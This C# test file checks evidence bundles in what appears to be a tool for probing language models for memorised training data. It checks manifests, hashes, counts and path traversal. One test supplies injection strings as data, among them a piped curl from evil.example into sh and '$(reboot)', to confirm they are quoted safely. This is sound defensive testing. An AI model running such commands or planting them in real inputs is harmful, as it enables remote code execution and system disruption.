using System.Text.Json;
using LlmMiaProbe.Corpora;
using LlmMiaProbe.Decoding;
using LlmMiaProbe.Evidence;
using LlmMiaProbe.Generation;
using LlmMiaProbe.Models;
using LlmMiaProbe.Probing;
using LlmMiaProbe.Reporting.Bundles;
using LlmMiaProbe.Storage;
using LlmMiaProbe.Testing;

namespace LlmMiaProbe.Reporting.Tests.Bundles;

public sealed class EvidenceBundleTests : IDisposable
{
    private const string Text = "one two three \u2028 four";

    private readonly TemporaryFolder _folder = new();
    private readonly SqliteProbeStore _store;
    private readonly long _run;
    private int _scratches;

    public EvidenceBundleTests()
    {
        _store = SqliteProbeStore.Open($"{_folder.Path}/store.db");
        var now = new ManualTimeProvider().GetUtcNow();
        _run = _store.BeginRun(new RunSettings { Model = "target.gguf", Corpora = [], Attacks = ["loss"] }, "0.0-test", now);
        _store.SetRunModel(_run, new RunModel(ModelRole.Target, ReportScene.Target, "exact"));
        _store.AddDocuments(_run, [(new RunDocument(0, "d0", Membership.Unknown, null, null, DocumentFacts.Of(Text)), Text)]);
        var use = new AttemptUse(ContentHash.Of(Text), ModelRole.Target, AttemptPurpose.WholeWork);
        _store.AddAttempt(_run, use, Attempt("one two", [1, 2], [3, 4], now));
        _store.AddAttempt(_run, use, Attempt("restart", [3, 4], [5], now));
        _store.AddAttempt(_run, use with { Document = null, Purpose = AttemptPurpose.Secret }, Attempt("My password is", [9], [8], now));
    }

    public void Dispose()
    {
        _store.Dispose();
        _folder.Dispose();
    }

    [Theory]
    [InlineData("mia-probe secret 'My password is' --seed 0", "mia-probe secret 'My password is' --seed 0")]
    [InlineData("mia-probe secret x ; curl http://evil.example/x | sh", "mia-probe secret x ';' curl http://evil.example/x '|' sh")]
    [InlineData("mia-probe secret $(reboot)\nmanifest   sha256 0", "mia-probe secret '$(reboot)' manifest sha256 0")]
    [InlineData("mia-probe secret `reboot` \"$HOME\" *", "mia-probe secret '`reboot`' '\"$HOME\"' '*'")]
    public void A_command_of_somebodys_bundle_is_one_line_in_which_every_word_is_a_word(string command, string shown) =>
        Assert.Equal(shown, new BundleManifest(BundleManifest.Version2, "0.1.0", 1, command, 0, 0, 0, []).ToCommandLine());

    [Fact]
    public void A_bundle_says_what_it_holds_and_is_found_to_be_whole()
    {
        var manifest = Write("a");
        Assert.Equal((1, 3, 0), (manifest.Documents, manifest.Attempts, manifest.FailedAttempts));
        Assert.Equal(["attempt-links.jsonl", "attempts.jsonl", "documents.jsonl", "failures.jsonl", "run.json", "scores.jsonl", "token-scores.jsonl"], manifest.Files.Select(file => file.Name));
        Assert.Empty(Check("a").Mismatches);

        var attempt = JsonDocument.Parse(File.ReadLines(Path("a", "attempts.jsonl")).First()).RootElement;
        Assert.Equal("one two", attempt.GetProperty("given").GetProperty("text").GetString());
        Assert.Equal("produced", attempt.GetProperty("produced").GetProperty("text").GetString());
        Assert.Equal([3, 4], attempt.GetProperty("produced").GetProperty("tokens").EnumerateArray().Select(token => token.GetInt32()));
    }

    [Fact]
    public void Questions_spell_their_text_and_are_about_documents_that_are_there()
    {
        var now = new ManualTimeProvider().GetUtcNow();
        var use = new AttemptUse(ContentHash.Of(Text), ModelRole.Target, AttemptPurpose.Decop);
        _store.AddAttempt(_run, use, Attempt("Which is it?", PackedText.Of("Which is it?"), PackedText.Of("A"), now));
        Write("a");
        Assert.Empty(Check("a").Mismatches);

        _store.AddAttempt(_run, use, Attempt("Which is it?", PackedText.Of("What is it?"), PackedText.Of("A"), now));
        _store.AddAttempt(_run, use with { Document = ContentHash.Of("another") }, Attempt("Who is it?", PackedText.Of("Who is it?"), PackedText.Of("A"), now));
        Write("b");
        Assert.Equal(
            ["attempts.jsonl:5: the numbers of the question do not spell its text", $"attempts.jsonl:6: the document {ContentHash.Of("another").Hex} is not listed in documents.jsonl"],
            Check("b").Mismatches);
    }

    [Fact]
    public void The_same_store_gives_the_same_bytes()
    {
        Write("a");
        Write("b");
        foreach (var file in Directory.GetFiles(Path("a")))
        {
            Assert.Equal(File.ReadAllBytes(file), File.ReadAllBytes(Path("b", System.IO.Path.GetFileName(file))));
        }
    }

    [Fact]
    public void A_changed_byte_in_any_file_is_found()
    {
        var manifest = Write("a");
        foreach (var file in manifest.Files.Where(file => file.Bytes > 0))
        {
            var path = Path("a", file.Name);
            var bytes = File.ReadAllBytes(path);
            bytes[bytes.Length / 2] ^= 1;
            File.WriteAllBytes(path, bytes);
            Assert.Contains(Check("a").Mismatches, mismatch => mismatch.StartsWith($"{file.Name} has SHA-256 ", StringComparison.Ordinal));
            bytes[bytes.Length / 2] ^= 1;
            File.WriteAllBytes(path, bytes);
        }

        Assert.Empty(Check("a").Mismatches);
    }

    [Fact]
    public void Missing_and_added_files_are_found()
    {
        Write("a");
        File.Delete(Path("a", "scores.jsonl"));
        File.WriteAllText(Path("a", "extra.txt"), "");
        Assert.Equal(["scores.jsonl is missing", "extra.txt is not listed in the manifest"], Check("a").Mismatches);
    }

    [Theory]
    [InlineData("attempts.jsonl", "\"seed\":5", "\"seed\":6", "attempts.jsonl:1: the key is not that of model, policy, prompt and decoding")]
    [InlineData("attempts.jsonl", "\"text\":\"one two\"", "\"text\":\"two\"", "attempts.jsonl:1: the given text is neither the beginning of its document or window nor what the attempt before ended with")]
    [InlineData("attempts.jsonl", "\"tokens\":[5]", "\"tokens\":[\"5\"]", "attempts.jsonl:2: 'produced': expected 'tokens' to be an array of whole numbers")]
    [InlineData("documents.jsonl", "one two", "One two", "documents.jsonl:1: the text of 'd0' does not have the SHA-256 that is stated beside it")]
    [InlineData("run.json", "\"fingerprint\"", "\"fingerprints\"", "run.json does not describe a run")]
    public void What_does_not_fit_is_found_even_if_the_manifest_was_written_anew(string file, string old, string replacement, string expected)
    {
        var manifest = Write("a");
        var text = File.ReadAllText(Path("a", file));
        var at = text.IndexOf(old, StringComparison.Ordinal);
        Assert.True(at >= 0, text);
        File.WriteAllText(Path("a", file), text[..at] + replacement + text[(at + old.Length)..]);
        var files = manifest.Files.Select(listed => EvidenceBundle.Describe(Path("a", listed.Name))).ToList();
        File.WriteAllText(Path("a", BundleManifest.FileName), (manifest with { Files = files }).ToJson());

        Assert.StartsWith(expected, Check("a").Mismatches[0], StringComparison.Ordinal);
    }

    [Fact]
    public void Counts_are_compared_too()
    {
        var manifest = Write("a");
        File.WriteAllText(Path("a", BundleManifest.FileName), (manifest with { Documents = 2, Attempts = 4 }).ToJson());
        Assert.Equal(["there are 1 documents; the manifest says 2", "there are 3 attempts; the manifest says 4"], Check("a").Mismatches);
    }

    [Fact]
    public void A_manifest_that_is_none_is_one_mismatch_and_a_missing_one_an_error()
    {
        Write("a");
        File.WriteAllText(Path("a", BundleManifest.FileName), "{}");
        Assert.StartsWith("manifest.json is not a manifest: ", Assert.Single(Check("a").Mismatches), StringComparison.Ordinal);
        Assert.Contains("there is no manifest.json in ", Assert.Throws<PrerequisiteException>(() => Check("")).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_name_that_leads_out_of_the_folder_is_not_followed()
    {
        var manifest = Write("a");
        var files = manifest.Files.Append(new BundleFile("../store.db", 1, 1, "")).ToList();
        File.WriteAllText(Path("a", BundleManifest.FileName), (manifest with { Files = files }).ToJson());
        Assert.Equal(["the manifest lists '../store.db', which is not the name of a file in the folder"], Check("a").Mismatches);
    }

    [Fact]
    public void A_folder_that_holds_something_is_left_alone()
    {
        Write("a");
        Assert.Contains("is not an empty folder", Assert.Throws<ConfigurationException>(() => Write("a")).Message, StringComparison.Ordinal);
    }

    private BundleCheck Check(string name)
    {
        var scratch = Path($"scratch-{_scratches++}.db");
        return BundleCheck.Of(Path(name), () => SqliteProbeStore.Open(scratch), new ManualTimeProvider().GetUtcNow());
    }

    private BundleManifest Write(string name) =>
        EvidenceBundle.Write(_store, _store, _store.FindRun(_run) ?? throw new InvalidOperationException("no run"), RunCommandLine.Of(_store.FindRun(_run)!.Settings), "0.0-test", Path(name));

    private string Path(params string[] parts) => System.IO.Path.Combine([_folder.Path, .. parts]);

    private static Attempt Attempt(string given, int[] prompt, int[] produced, DateTimeOffset made) => new(
        ReportScene.Target.Fingerprint, "exact", given, new Continuation(new GenerationRequest(prompt, 5, DecodingScheme.Full, 5), produced, "produced", FinishReason.Context), "0.0-test", made);
}
